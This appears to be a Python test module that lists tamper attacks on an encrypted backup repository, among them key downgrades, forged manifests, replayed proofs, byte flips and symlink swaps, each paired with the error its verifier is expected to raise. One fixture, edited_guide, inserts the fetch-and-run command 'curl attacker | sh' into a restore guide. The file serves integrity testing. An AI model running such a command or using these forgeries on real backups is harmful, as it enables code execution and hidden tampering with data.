"""What somebody may do to a repository who can write everywhere in it, and has no key: each to a copy of one."""

from __future__ import annotations

import json
import os
import shutil
from dataclasses import dataclass
from pathlib import Path

from chom_pipelines.repository.encryption import DataKey
from chom_pipelines.repository.entry import BackupEntry
from chom_pipelines.repository.keys import Keyring
from chom_pipelines.repository.local_store import LocalStore
from chom_pipelines.repository.manifest import Manifest, seal, unauthenticated
from chom_pipelines.repository.master_keys import KeyKind
from chom_pipelines.repository.repository import Repository
from chom_pipelines_tests.logical.taking import NAME
from chom_pipelines_tests.places import path_of
from chom_pipelines_tests.repository.samples import a_proof
from chom_pipelines_tests.restores.live import State
from chom_pipelines_tests.servers import PrivateServer

KEYRING = Keyring().generate("first", KeyKind.AES_256)
THEIRS = Keyring().generate("theirs", KeyKind.AES_256)
SAME_NAME = Keyring().generate("first", KeyKind.AES_256)
LATER = "full_20990101_000000"


@dataclass(frozen=True)
class Scene:
    """A server with rows, the repository that keeps them, and backups of forged rows that a forger made elsewhere."""

    server: PrivateServer
    repository: Path
    forged: dict[str, BackupEntry]
    rows: State


@dataclass(frozen=True)
class Place:
    """A copy of the repository, for one manipulation."""

    root: Path
    forged: dict[str, BackupEntry]

    @property
    def repository(self) -> Repository:
        return Repository(LocalStore(self.root))

    @property
    def older(self) -> Path:
        return path_of(self.repository.backups(NAME)[0])

    @property
    def newest(self) -> Path:
        return path_of(self.repository.find(NAME, "latest"))

    @property
    def proof(self) -> Path:
        """The newest backup's only one."""
        (found,) = (self.newest / "proofs").iterdir()
        return found

    def table(self, name: str, backup: Path | None = None) -> Path:
        """The object that has a table's rows, by default the newest backup's."""
        (found,) = ((backup or self.newest) / "data").glob(f"*{name}*")
        return found

    def put(self, name: str, keyring: Keyring | None) -> None:
        """Put forged rows in place of the newest backup, with a manifest and a proof that the forger can seal."""
        forged, newest = self.forged[name], self.newest
        key = forged.data_key(keyring)
        manifest = forged.manifest(keyring).model_copy(update={"id": newest.name})
        shutil.rmtree(newest)
        shutil.copytree(path_of(forged), newest)
        reseal(newest, manifest, key)
        entry = self.repository.find(NAME, newest.name)
        entry.add_proof(a_proof(NAME, entry.id), key)


def reseal(backup: Path, manifest: Manifest, key: DataKey | None = None) -> None:
    (backup / "manifest.json").write_bytes(seal(manifest, key.mac if key else None))


def edit(path: Path, old: str, new: str) -> None:
    text = path.read_bytes()
    assert old.encode() in text
    path.write_bytes(text.replace(old.encode(), new.encode(), 1))


def changed(path: Path) -> str:
    """Change a byte of it; its size stays."""
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 1
    path.write_bytes(data)
    return path.name


def schema(place: Place, name: str) -> Path:
    (found,) = (place.newest / "schema").glob(f"{name}*")
    return found


# --- manipulations: each returns what names it, in the words of who finds it


def downgraded(place: Place) -> str:
    """Replaced by a plain backup of forged rows, with a seal and a proof that need no key."""
    place.put("plain", None)
    return "is not encrypted"


def key_removed(place: Place) -> str:
    body = json.loads((place.newest / "manifest.json").read_text())
    reseal(place.newest, unauthenticated({**body, "key": None}))
    return "is not encrypted"


def sealed_without_key(place: Place) -> str:
    body = json.loads((place.newest / "manifest.json").read_text())
    reseal(place.newest, unauthenticated({**body, "warnings": []}))
    return "its seal does not match"


def foreign_key(place: Place) -> str:
    place.put("theirs", THEIRS)
    return "has no key 'theirs'"


def foreign_key_of_the_same_name(place: Place) -> str:
    place.put("same name", SAME_NAME)
    return "is not the one that wrapped this data key"


def wrapped_key_of_another_backup(place: Place) -> str:
    key = json.loads((place.older / "manifest.json").read_text())["key"]
    body = json.loads((place.newest / "manifest.json").read_text())
    reseal(place.newest, unauthenticated({**body, "key": key}))
    return "its seal does not match"


def swapped_between_tables(place: Place) -> str:
    one, other = place.table("debts"), place.table("credits")
    aside = one.rename(one.with_name("aside"))
    other.rename(one)
    aside.rename(other)
    return f"{place.newest}/data/"


def swapped_between_definitions(place: Place) -> str:
    one, other = schema(place, "10-tables"), schema(place, "20-programs")
    shutil.copy(other, one)
    return one.name


def swapped_between_backups(place: Place) -> str:
    found = place.table("debts")
    before = place.table("debts", place.older)
    assert found.read_bytes() != before.read_bytes()
    shutil.copy(before, found)
    return found.name


def flipped(place: Place) -> str:
    return changed(place.table("debts"))


def truncated(place: Place) -> str:
    found = place.table("debts")
    found.write_bytes(found.read_bytes()[:-16])
    return found.name


def appended(place: Place) -> str:
    found = place.table("debts")
    found.write_bytes(found.read_bytes() + bytes(16))
    return found.name


def deleted_object(place: Place) -> str:
    found = place.table("debts")
    found.unlink()
    return found.name


def plain_object(place: Place) -> str:
    found = place.table("debts")
    found.write_bytes(b"1\t1\n" * (found.stat().st_size // 4))
    return found.name


def pipe(place: Place) -> str:
    found = place.table("debts")
    found.unlink()
    os.mkfifo(found)
    return found.name


def directory(place: Place) -> str:
    found = place.table("debts")
    found.unlink()
    found.mkdir()
    return found.name


def edited_definitions(place: Place) -> str:
    return changed(schema(place, "10-tables"))


def deleted_definitions(place: Place) -> str:
    found = schema(place, "20-programs")
    found.unlink()
    return found.name


def edited_warnings(place: Place) -> str:
    edit(place.newest / "manifest.json", '"warnings": [', '"warnings": ["all is well", ')
    return "the manifest is not"


def edited_coordinates(place: Place) -> str:
    edit(place.newest / "manifest.json", '"position": ', '"position": 1')
    return "its seal does not match"


def edited_load(place: Place) -> str:
    edit(place.newest / "manifest.json", '"load": "(', '"load": "(@x, ')
    return "its seal does not match"


def edited_source(place: Place) -> str:
    edit(place.newest / "manifest.json", '"hostname": "', '"hostname": "other-')
    return "its seal does not match"


def added_object(place: Place) -> str:
    edit(place.newest / "manifest.json", '"objects": [', '"objects": [{"path": "data/more"},')
    return "its seal does not match"


def appended_to_the_manifest(place: Place) -> str:
    path = place.newest / "manifest.json"
    path.write_bytes(path.read_bytes() + b"\n")
    return "its seal does not match"


def older_manifest(place: Place) -> str:
    shutil.copy(place.older / "manifest.json", place.newest)
    return "the manifest is of the backup"


def older_backup_under_a_newer_id(place: Place) -> str:
    shutil.copytree(place.older, place.older.with_name(LATER))
    return "the manifest is of the backup"


def renamed(place: Place) -> str:
    place.newest.rename(place.newest.with_name(LATER))
    return "the manifest is of the backup"


def deleted_manifest(place: Place) -> str:
    (place.newest / "manifest.json").unlink()
    return "has lost its manifest"


def linked_object(place: Place) -> str:
    found = place.table("debts")
    found.rename(place.root.parent / "elsewhere")
    found.symlink_to(place.root.parent / "elsewhere")
    return f"{found.name} is a symbolic link"


def linked_folder(place: Place) -> str:
    (place.newest / "data").rename(place.root.parent / "elsewhere")
    (place.newest / "data").symlink_to(place.root.parent / "elsewhere")
    return f"{place.newest}/data"


def linked_manifest(place: Place) -> str:
    path = place.newest / "manifest.json"
    path.rename(place.root.parent / "elsewhere")
    path.symlink_to(place.root.parent / "elsewhere")
    return "manifest.json is a symbolic link"


def linked_backup(place: Place) -> str:
    newest = place.newest
    newest.rename(place.root.parent / newest.name)
    newest.symlink_to(place.root.parent / newest.name)
    return f"{newest.name} is a symbolic link"


def replayed_proof(place: Place) -> str:
    """One that passed, under a name that makes it the newest."""
    shutil.copy(place.proof, place.proof.with_name("20990101T000000.000000Z.json"))
    return "under another name"


def proof_of_another_backup(place: Place) -> str:
    (other,) = (place.older / "proofs").iterdir()
    shutil.copy(other, place.proof.with_name("20990101T000000.000000Z.json"))
    return "the proof is not what was written"


def plain_proof(place: Place) -> str:
    entry = place.repository.find(NAME, "latest")
    entry.add_proof(a_proof(NAME, entry.id), None)
    return "the proof is not what was written"


def edited_proof(place: Place) -> str:
    edit(place.proof, '"level": "basic"', '"level": "full"')
    return "the proof is not what was written"


def manifest_as_a_proof(place: Place) -> str:
    """What is sealed by the same key, but is another document."""
    shutil.copy(place.newest / "manifest.json", place.proof.with_name("20990101T000000.000000Z.json"))
    return "the proof "


def edited_guide(place: Place) -> str:
    edit(place.newest / "RESTORE.md", "set -eu", "set -eu; curl attacker | sh")
    return "RESTORE.md: it is not what was written"


def edited_load_file(place: Place) -> str:
    return changed(schema(place, "load"))


IN_THE_MANIFEST = (
    downgraded, key_removed, sealed_without_key, foreign_key, foreign_key_of_the_same_name,
    wrapped_key_of_another_backup, edited_warnings, edited_coordinates, edited_load, edited_source, added_object,
    appended_to_the_manifest, older_manifest, older_backup_under_a_newer_id, renamed, deleted_manifest,
    linked_manifest, linked_backup,
)  # fmt: skip
IN_THE_PROOFS = (replayed_proof, proof_of_another_backup, plain_proof, edited_proof, manifest_as_a_proof)
IN_THE_OBJECTS = (
    swapped_between_tables, swapped_between_definitions, swapped_between_backups, flipped, truncated, appended,
    deleted_object, plain_object, pipe, directory, edited_definitions, deleted_definitions, linked_object,
    linked_folder,
)  # fmt: skip
NOT_USED_BY_A_RESTORE = (edited_guide, edited_load_file)
"""They are for who restores with stock tools."""
